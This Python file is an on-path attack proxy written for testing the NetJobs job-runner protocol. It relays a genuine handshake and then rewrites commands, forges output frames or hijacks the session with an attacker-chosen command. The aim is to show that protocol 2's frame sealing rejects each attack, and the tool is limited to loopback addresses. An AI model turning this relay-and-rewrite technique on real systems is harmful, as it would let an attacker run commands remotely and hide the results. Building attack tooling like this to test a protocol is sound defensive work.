#!/usr/bin/env python3
"""An on-path attacker for NetJobs (issue 8, point 1): relays a real handshake, then tampers.

It holds no token. It forwards the handshake untouched (so both ends
authenticate each other for real) and then, depending on its mode, does what
took over a protocol-1 session:

- ``rewrite-prepare`` (a): replaces the command of every `prepare` with its own;
- ``rewrite-both`` (b): that, and rewrites the `output` frames coming back so the
  controller sees the output it expects (``--fake-output``);
- ``rewrite-output``: only the output rewrite, to show the controller's side;
- ``hijack`` (c): swallows the controller's `bye` and sends its own `prepare` +
  `start` on the still-authenticated connection to the agent.
- ``forward`` (issue 22): alters nothing; listening on another loopback address,
  it is the forwarder (or moved address, or DNS change) that makes one agent
  answer for another host: its host credential must be refused there.

Protocol 2 seals every frame after the handshake, so each attack ends in an
integrity error at the end that reads the altered frame. A rewritten frame
keeps its original tag, and a forged one reuses the tag of the frame it
replaced: the best an attacker without the token can do.

Bounded: loopback only (listen and upstream), at most `max_connections`
connections, each closed after `lifetime_s`, frames parsed with the
protocol's size limits. `AttackProxy.tampered` counts what it altered, so a
test can tell "the attack failed" from "the attack never happened".

Command line (standard library plus this repository)::

    python bench/attack_proxy.py --upstream 127.0.0.1:16192 --mode hijack \\
        --command 'touch /tmp/pwned'
    -> prints "listening on 127.0.0.1:PORT", relays until interrupted
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import ipaddress
import json
import struct
import sys
from collections import Counter
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from netjobs_core.wire.framing import (
    FLAG_TAGGED,
    PREFIX_SIZE,
    PROTOCOL_VERSION,
    Frame,
    FrameDecoder,
    RawFrame,
    encode_frame,
)

MODES = ("rewrite-prepare", "rewrite-both", "rewrite-output", "hijack", "forward")
READ_SIZE = 64 * 1024
_PREFIX = struct.Struct(">2sBBII")


def _loopback(host: str) -> str:
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{host} is not a loopback address: this tool stays on this machine")
    return host


def _header(frame: RawFrame) -> dict[str, object]:
    return json.loads(frame.signed[PREFIX_SIZE : PREFIX_SIZE + frame.header_len])


def _rebuild(frame: RawFrame, header: dict[str, object], body: bytes) -> bytes:
    """The frame with a new header and body, and its old tag (no key to make a new one)."""
    raw = json.dumps(header, separators=(",", ":")).encode()
    prefix = _PREFIX.pack(b"NJ", PROTOCOL_VERSION, frame.flags, len(raw), len(body))
    return prefix + raw + body + frame.tag


class AttackProxy:
    def __init__(
        self,
        upstream: tuple[str, int],
        mode: str,
        command: str,
        *,
        fake_output: bytes = b"benign\n",
        max_connections: int = 8,
        lifetime_s: float = 30.0,
    ) -> None:
        if mode not in MODES:
            raise ValueError(f"mode must be one of {', '.join(MODES)}")
        self.upstream = (_loopback(upstream[0]), upstream[1])
        self.mode = mode
        self.command = command
        self.fake_output = fake_output
        self.max_connections = max_connections
        self.lifetime_s = lifetime_s
        self.tampered: Counter[str] = Counter()  # what was altered: "prepare", "output", "bye"
        self.connections = 0
        self._server: asyncio.Server | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    async def start(self, host: str = "127.0.0.1", port: int = 0) -> int:
        self._server = await asyncio.start_server(self._accept, _loopback(host), port)
        return self._server.sockets[0].getsockname()[1]

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
        for task in list(self._tasks):
            task.cancel()
        if self._tasks:
            await asyncio.wait(self._tasks)

    async def __aenter__(self) -> AttackProxy:
        return self

    async def __aexit__(self, *exc: object) -> None:
        await self.close()

    async def _accept(self, c_reader: asyncio.StreamReader, c_writer: asyncio.StreamWriter) -> None:
        if self.connections >= self.max_connections:
            c_writer.close()
            return
        self.connections += 1
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        a_writer = None
        try:
            async with asyncio.timeout(self.lifetime_s):
                a_reader, a_writer = await asyncio.open_connection(*self.upstream)
                async with asyncio.TaskGroup() as group:
                    group.create_task(self._pump(c_reader, a_writer, self._to_agent))
                    group.create_task(self._pump(a_reader, c_writer, self._to_controller))
        except (TimeoutError, OSError, ExceptionGroup):
            pass  # either end hung up (the attack was refused), or the lifetime ran out
        finally:
            for writer in (c_writer, a_writer):
                if writer is not None:
                    writer.transport.abort()
            self._tasks.discard(task)

    async def _pump(self, reader, writer, alter) -> None:
        decoder = FrameDecoder()
        while data := await reader.read(READ_SIZE):
            decoder.add(data)
            while (frame := decoder.next_frame()) is not None:
                out = alter(frame)
                if out:
                    writer.write(out)
            await writer.drain()
        # EOF from one side: in hijack mode the agent side stays open for the forgery.
        if not (self.mode == "hijack" and alter == self._to_agent):
            writer.close()

    def _to_agent(self, frame: RawFrame) -> bytes:
        if not frame.flags & FLAG_TAGGED:
            return frame.signed + frame.tag  # the handshake: relayed as is
        header = _header(frame)
        if header["type"] == "prepare" and self.mode in ("rewrite-prepare", "rewrite-both"):
            for item in header["commands"]:  # type: ignore[union-attr]
                item["command"] = self.command
            self.tampered["prepare"] += 1
            return _rebuild(frame, header, b"")
        if header["type"] == "bye" and self.mode == "hijack":
            self.tampered["bye"] += 1
            prepare = {
                "type": "prepare",
                "label": "hijacked",
                "commands": [{"id": 0, "command": self.command, "timeout": None}],
            }
            start = encode_frame_with_tag({"type": "start", "at": None}, frame.tag)
            return encode_frame_with_tag(prepare, frame.tag) + start
        return frame.signed + frame.tag

    def _to_controller(self, frame: RawFrame) -> bytes:
        if frame.flags & FLAG_TAGGED and self.mode in ("rewrite-both", "rewrite-output"):
            header = _header(frame)
            if header["type"] == "output" and header.get("stream") == "stdout":
                self.tampered["output"] += 1
                return _rebuild(frame, header, self.fake_output)
        return frame.signed + frame.tag


def encode_frame_with_tag(header: dict[str, object], tag: bytes) -> bytes:
    """A forged sealed frame: the right layout, a tag the forger could not compute."""
    fields = {k: v for k, v in header.items() if k != "type"}
    return encode_frame(Frame(str(header["type"]), fields), FLAG_TAGGED) + tag


def _address(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host.strip("[]"), int(port)


async def _main(args: argparse.Namespace) -> None:
    proxy = AttackProxy(_address(args.upstream), args.mode, args.command)
    port = await proxy.start(port=args.port)
    print(f"listening on 127.0.0.1:{port}", flush=True)
    try:
        await asyncio.Event().wait()
    finally:
        await proxy.close()
        print(json.dumps({"connections": proxy.connections, "tampered": proxy.tampered}))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--upstream", required=True, help="the agent, e.g. 127.0.0.1:16192")
    parser.add_argument("--mode", choices=MODES, required=True)
    parser.add_argument("--command", required=True, help="what the attacker wants run")
    parser.add_argument("--port", type=int, default=0)
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_main(parser.parse_args()))
